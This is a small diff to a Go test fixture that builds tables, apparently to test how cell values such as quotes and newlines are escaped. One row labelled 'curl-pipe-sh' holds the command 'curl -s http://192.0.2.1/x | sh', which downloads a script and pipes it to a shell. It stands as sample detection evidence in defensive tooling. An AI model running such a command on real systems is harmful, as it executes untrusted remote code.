@@ -30,7 +30,7 @@ func fixtures() map[string]*Table {
 	csvOnly.Append("multiengine", "100.0% [59.0–100.0] (7/7)", "7", "7")
 
 	escape := New(Column{Header: "rule"}, Column{Header: "evidence"})
-	escape.Append("curl-pipe-sh", "curl -s http://10.0.0.1/x | sh")
+	escape.Append("curl-pipe-sh", "curl -s http://192.0.2.1/x | sh")
 	escape.Append("multi-line", "line one\nline two")
 	escape.Append("quote", `say "hi", then leave`)
 
